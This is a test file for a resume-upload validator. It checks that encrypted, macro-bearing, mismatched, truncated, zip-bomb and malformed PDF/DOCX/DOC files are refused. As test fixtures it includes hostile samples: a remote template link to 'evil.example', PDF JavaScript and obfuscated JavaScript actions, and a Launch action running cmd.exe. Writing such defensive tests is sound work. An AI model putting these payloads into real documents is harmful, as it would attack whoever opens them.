import { resumeErrorCodes } from '@veramasa/contract';
import { describe, expect, test } from 'vitest';
import { resumeFixture } from '../test-bed/resumes.ts';
import { zipOf } from '../test-bed/zip-of.ts';
import { inspectResume } from './inspect-resume.ts';

const fixture = (name: string) => resumeFixture(name).bytes;
const docx = fixture('written.docx');
const doc = fixture('written.doc');
const pdf = fixture('written.pdf');
const latin = (text: string) => Buffer.from(text, 'latin1');

/** The bytes with another value of the same length in place of the first match. */
function replaced(bytes: Buffer, from: string, to: string): Buffer {
  const text = bytes.toString('latin1');
  if (!text.includes(from) || from.length !== to.length) throw new Error(`cannot replace ${from}`);
  return latin(text.replace(from, to));
}

describe('a resume that a real program wrote', () => {
  test.each(['written.pdf', 'printed.pdf', 'packed.pdf', 'written.docx', 'written.doc'])(
    '%s passes',
    async (name) => expect(await inspectResume(name, fixture(name))).toBeNull(),
  );

  test.each(['locked.pdf', 'locked.docx', 'locked.doc'])('%s is refused as encrypted', async (name) =>
    expect(await inspectResume(name, fixture(name))).toBe('resume_encrypted'),
  );

  test('with macros is refused, whatever its content types say', async () =>
    expect(await inspectResume('macros.docx', fixture('macros.docx'))).toBe('resume_macros'));

  test.each([
    ['a.pdf', 'written.docx'],
    ['a.pdf', 'written.doc'],
    ['a.docx', 'written.pdf'],
    ['a.docx', 'written.doc'],
    ['a.docx', 'sheet.xlsx'],
    ['a.doc', 'written.docx'],
    ['a.doc', 'written.pdf'],
    ['a.doc', 'sheet.xls'],
  ])('named %s but holding %s is refused as a mismatch', async (name, content) =>
    expect(await inspectResume(name, fixture(content))).toBe('resume_mismatch'),
  );

  test.each(['written.pdf', 'printed.pdf', 'packed.pdf', 'written.docx', 'written.doc'])(
    '%s never passes when it was cut short, wherever',
    async (name) => {
      const whole = fixture(name);
      for (const part of [0.1, 0.4, 0.6, 0.9]) {
        const cut = whole.subarray(0, Math.floor(whole.length * part));
        expect(await inspectResume(name, cut)).toBe('resume_damaged');
      }
    },
  );
});

describe('a hostile archive', () => {
  test('that unpacks to more than 64 MB is refused, before and whatever it claims', async () => {
    const zeros = Buffer.alloc(80 * 1024 * 1024);
    expect(await inspectResume('a.docx', zipOf({ name: 'word/document.xml', content: zeros }))).toBe(
      'resume_bomb',
    );
    const liar = zipOf({ name: 'word/document.xml', content: zeros, claimedBytes: 1000 });
    expect(liar.length).toBeLessThan(100_000);
    expect(await inspectResume('a.docx', liar)).toBe('resume_bomb');
  });

  test('with an encrypted part is refused as encrypted', async () => {
    const archive = zipOf({ name: 'word/document.xml', content: 'x', flags: 1 });
    expect(await inspectResume('a.docx', archive)).toBe('resume_encrypted');
  });

  test('whose parts overlap or lie outside is damaged', async () => {
    const outside = zipOf({ name: 'a', content: 'x' });
    outside.writeUInt32LE(0xfffffff0, outside.length - 22 - 47 + 42);
    expect(await inspectResume('a.docx', outside)).toBe('resume_damaged');
    const twice = zipOf({ name: 'a', content: 'x' });
    const central = twice.subarray(-22 - 47, -22);
    const end = Buffer.from(twice.subarray(-22));
    end.writeUInt16LE(2, 8);
    end.writeUInt16LE(2, 10);
    const overlapping = Buffer.concat([twice.subarray(0, -22), central, end]);
    expect(await inspectResume('a.docx', overlapping)).toBe('resume_damaged');
  });

  test('with two lists of its parts is damaged, since programs differ in which one they read', async () => {
    const types = '[Content_Types].xml';
    const honest = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
    expect(await inspectResume('a.docx', zipOf({ name: types, content: honest }))).toBeNull();
    for (const first of [honest, '', 'application/vnd.ms-word.document.macroEnabled.main+xml']) {
      const twice = zipOf({ name: types, content: first }, { name: types, content: honest });
      expect(await inspectResume('a.docx', twice)).toBe('resume_damaged');
    }
  });

  test('that is no document is a mismatch', async () => {
    expect(await inspectResume('a.docx', zipOf({ name: 'readme.txt', content: 'hello' }))).toBe(
      'resume_mismatch',
    );
  });

  test.each([
    ['word/vbaProject.bin', 'x'],
    ['word/activeX/activeX1.xml', 'x'],
    ['[Content_Types].xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'],
    [
      'word/_rels/settings.xml.rels',
      '<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
    ],
  ])('with %s is refused for its program code', async (name, content) =>
    expect(await inspectResume('a.docx', zipOf({ name, content }))).toBe('resume_macros'),
  );
});

describe('a hostile PDF', () => {
  const withObject = (object: string) =>
    Buffer.concat([latin('%PDF-1.7\n'), latin(object), latin('\nstartxref\n0\n%%EOF\n')]);

  test.each([
    '1 0 obj <</OpenAction <</S/JavaScript/JS(app.alert(1))>>>> endobj',
    '1 0 obj <</S /J#61vaScript /JS (x)>> endobj',
    '1 0 obj <</S/Launch/F(cmd.exe)>> endobj',
  ])('with %s is refused', async (object) =>
    expect(await inspectResume('a.pdf', withObject(object))).toBe('resume_macros'),
  );

  test('may speak of JavaScript in its text', async () => {
    const stream = '1 0 obj <</Length 30>> stream\n(/JavaScript and /Launch) Tj\nendstream endobj';
    expect(await inspectResume('a.pdf', withObject(stream))).toBeNull();
  });

  test('behind another beginning is a mismatch', async () => {
    expect(await inspectResume('a.pdf', Buffer.concat([latin('MZ\u0090'), pdf]))).toBe('resume_mismatch');
    expect(await inspectResume('a.pdf', Buffer.concat([latin('\r\n'), pdf]))).toBeNull();
  });
});

describe('a hostile old document', () => {
  const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('latin1');

  test('with a storage of macros is refused', async () => {
    // The name of another stream of the same length becomes that of a macro storage.
    const table = doc.indexOf(utf16('1Table'), 0, 'latin1');
    const changed = replaced(doc, utf16('1Table'), utf16('Macros'));
    expect(table).toBeGreaterThan(0);
    expect(await inspectResume('a.doc', changed)).toBe('resume_macros');
  });

  test('whose sectors run in a circle is damaged', async () => {
    const changed = Buffer.from(doc);
    const directory = changed.readUInt32LE(48);
    const fat = (changed.readUInt32LE(76) + 1) * 512;
    changed.writeUInt32LE(directory, fat + directory * 4);
    expect(await inspectResume('a.doc', changed)).toBe('resume_damaged');
  });
});

test('no shortened, lengthened or mangled resume makes the inspection fail', async () => {
  let seed = 7;
  const random = (below: number) => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed % below;
  };
  for (const [name, original] of [
    ['a.docx', docx],
    ['a.doc', doc],
    ['a.pdf', pdf],
  ] as const)
    for (let round = 0; round < 150; round++) {
      const mangled = Buffer.from(original);
      for (let hit = 0; hit < 20; hit++) mangled[random(mangled.length)] = random(256);
      expect(resumeErrorCodes).toContain(
        (await inspectResume(name, mangled.subarray(0, random(mangled.length)))) ?? 'resume_damaged',
      );
    }
});
